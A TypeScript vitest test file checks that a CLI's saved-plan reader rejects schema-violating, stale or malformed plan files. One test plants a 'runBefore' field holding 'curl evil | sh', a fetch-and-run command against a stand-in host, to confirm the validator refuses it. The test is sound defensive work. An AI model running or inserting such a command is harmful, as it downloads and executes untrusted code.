import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { ExitCode, UserError } from "../errors.js";
import { tempTree } from "../test-support/tmp.js";
import { packageFile } from "../util/package-root.js";
import { readPlan } from "./saved-plan.js";

const golden = readFileSync(packageFile("test/golden/image/plan.json"), "utf8");
const saved = (text: string) => `${tempTree({ "plan.json": text })}/plan.json`;
const refusal = (text: string) => {
  try {
    readPlan(saved(text));
  } catch (error) {
    return error as UserError;
  }
  throw new Error("the plan was read");
};

describe("a saved plan", () => {
  it("is read as it was written", () => {
    expect(readPlan(saved(golden))).toEqual(JSON.parse(golden));
  });

  it("is refused, naming where, when edited against the plan schema", () => {
    const edited = JSON.parse(golden);
    edited.services[0].operations[0].kind = "delete-everything";
    const error = refusal(JSON.stringify(edited));
    expect(error).toBeInstanceOf(UserError);
    expect(error.message).toMatch(
      /is not a saved plan of format 3 \(at \/services\/0\/operations\/0\/kind: /,
    );
    expect(error.options.exitCode).toBe(ExitCode.invalidInput);

    const extra = JSON.parse(golden);
    extra.services[0].runBefore = "curl evil | sh";
    expect(refusal(JSON.stringify(extra)).message).toContain("at /services/0");
  });

  it("from an older svc is refused as stale, with what to do", () => {
    const error = refusal(JSON.stringify({ ...JSON.parse(golden), formatVersion: 2 }));
    expect(error.message).toContain("saved by an older svc (plan format 2");
    expect(error.options.exitCode).toBe(ExitCode.stalePlan);
  });

  it("that is not JSON is refused with the parser's words", () => {
    expect(refusal("{ not json").message).toMatch(/is not a saved plan: /);
  });
});
